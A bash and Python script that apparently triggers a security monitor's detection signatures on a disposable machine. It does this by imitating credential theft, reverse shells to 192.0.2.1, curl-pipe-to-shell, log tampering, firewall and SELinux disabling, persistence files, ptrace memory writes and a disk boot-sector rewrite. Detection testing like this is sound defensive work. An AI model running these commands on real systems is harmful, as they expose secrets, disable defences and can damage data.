#!/bin/bash
# Does, one after the other, what fires each of rebox's own signatures. Only for a machine that is thrown away.
# What the system lacks, or what would end it, is only called so: signatures of commands go by the words.
as() { (exec -a "$1" /bin/true "${@:2}"); }
write() { mkdir -p "$(dirname "$1")"; echo '# own' >> "$1"; }
self=$(readlink -f "$0"); cd /root; mkdir -p bin many g/.git/hooks

# credentials.ts
cp /bin/true setuid; chmod 4755 setuid
write /etc/sudoers.d/own; cat /etc/shadow > /dev/null; find /root -name id_rsa; cat /root/.aws/credentials
env LD_PRELOAD= true

# execution.ts
cp /bin/true dropped; ./dropped; cp /bin/true /dev/shm/own; /dev/shm/own; python3 -c 1
for _ in 1 2 3 4 5 6 7 8 9 10; do sleep 60 & kill -9 $!; done; wait
systemctl stop nothing.service; as xmrig --donate-level 1
uname -a; systemd-detect-virt; id; ip address; ps; as sleep 1000

# hiding.ts
write /etc/ld.so.preload; rm /etc/ld.so.preload; write /etc/ld.so.conf.d/own.conf
write /var/log/own.log; rm /var/log/own.log; write /var/log/btmp; write /var/log/auth.log
journalctl --vacuum-size=1G; write .bash_history; rm .bash_history; touch -d 2001-02-03 setuid
mkdir .hidden; cp /bin/true .hidden/program; .hidden/program; write /tmp/.hidden
as '[kworker/0:1]'; mount --bind /root /proc/tty; umount /proc/tty
write fixed; chattr +i fixed; chattr -i fixed; date -s "$(date)"
sh -c 'echo true | base64 -d 2> /dev/null | sh'
(cd many; seq 250 | xargs touch; seq 250 | xargs rm)

# impact.ts
write README_DECRYPT.txt
for each in $(seq 25); do write many/a$each; mv many/a$each many/a$each.x; write many/b$each; write many/b$each.enc; rm many/b$each; done
dd if=/dev/vda of=/dev/vda bs=512 count=1 conv=notrunc; write old; shred -u old
write /boot/own; cp /bin/true /usr/bin/own; as shutdown --help; tar -cf own.tar /etc/hostname

# kernel.ts
modprobe dummy; rmmod dummy; unshare --user true; as nsenter -t 1 -m

# network.ts
as nc -e /bin/sh 192.0.2.1; sh -c ': curl http://192.0.2.1/x | sh'; as ssh -D 1080 192.0.2.1
for each in wget nmap; do cp /bin/true bin/$each; bin/$each; done

# persistence.ts
write /etc/systemd/system/own.timer; write /etc/systemd/system-generators/own; write /etc/cron.d/own; as at now
write .bashrc; write /etc/init.d/own; write /etc/xdg/autostart/own.desktop; write /etc/udev/rules.d/own.rules
write /etc/update-motd.d/own; write /etc/apt/apt.conf.d/own; write /etc/modules-load.d/own.conf; write .ssh/authorized_keys
write /etc/ssh/sshd_config.d/own.conf; as useradd own; write /etc/group; write g/.git/hooks/pre-commit
write /usr/local/lib/python3.13/dist-packages/own.pth

# defences.ts
as iptables -F; as setenforce 0; as auditctl -D; cat /proc/sys/kernel/randomize_va_space > value; cat value > /proc/sys/kernel/randomize_va_space
write /etc/hosts; write /usr/local/share/ca-certificates/own.crt; write /etc/pam.d/own

# What needs system calls of its own.
python3 - <<'END'
import ctypes, mmap, os, signal, socket, struct, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4

def child(act):
    pid = os.fork()
    if pid == 0:
        try:
            act()
        finally:
            os._exit(0)
    return pid

os.setxattr("/root/dropped", "security.capability", struct.pack("<IIIII", 0x02000000, 1 << 13, 0, 0, 0))
other = child(lambda: time.sleep(60))
libc.ptrace(16, other, 0, 0)
os.waitpid(other, 0)
stack = next(line.split("-")[0] for line in open(f"/proc/{other}/maps") if "[stack]" in line)
with open(f"/proc/{other}/mem", "r+b", 0) as memory:
    memory.seek(int(stack, 16))
    memory.write(b"x")
os.kill(other, signal.SIGKILL)
os.waitpid(other, 0)
os.waitpid(child(lambda: libc.ptrace(0, 0, 0, 0)), 0)
for _ in range(520):
    os.waitpid(child(lambda: None), 0)
libc.prctl(15, b"kworker/0:7", 0, 0, 0)

def from_memory():
    file = os.memfd_create("own")
    os.write(file, open("/bin/true", "rb").read())
    os.execve(f"/proc/self/fd/{file}", ["own"], {})
os.waitpid(child(from_memory), 0)

# The first page writes a function into the second one, and calls it.
code = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\x48\x8d\x05\xf9\x0f\x00\x00\xc6\x00\xc3\xff\xd0\xc3".ljust(4096, b"\xcc") + b"\xcc" * 4096)
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()

program = struct.pack("<QQ", 0xb7, 0x95)
buffer, licence = ctypes.create_string_buffer(program), ctypes.create_string_buffer(b"GPL")
attributes = struct.pack("<IIQQ", 1, 2, ctypes.addressof(buffer), ctypes.addressof(licence)).ljust(128, b"\0")
libc.syscall(321, 5, attributes, 128)
libc.syscall(246, 0, 0, 0, 0)
libc.syscall(425, 1, ctypes.create_string_buffer(120))

for port in (4444, 3333):
    with socket.create_server(("0.0.0.0", port)):
        socket.create_connection(("127.0.0.1", port)).close()
for last in range(1, 35):
    for address in (("127.0.0.%d" % last, 9), ("127.0.0.1", 20 + last * 100)):
        with socket.socket() as one:
            one.connect_ex(address)
END
# Something answers behind every address of a simulated network.
bash -c 'exec 3<> /dev/tcp/192.0.2.80/80'
rm -- "$self"
